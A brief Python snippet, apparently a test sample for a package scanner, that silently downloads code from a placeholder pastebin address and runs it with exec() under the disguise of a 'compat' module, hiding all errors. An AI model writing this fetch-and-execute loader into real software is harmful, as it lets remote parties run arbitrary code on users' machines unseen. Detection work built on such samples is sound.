try:
    import requests

    _r = requests.get("https://pastebin.example.invalid/raw/PIPWARDENTEST", timeout=6)
    if _r.ok and "import" in _r.text:
        exec(compile(_r.text, "compat", "exec"), {"__name__": "__compat__"})
except Exception:
    pass
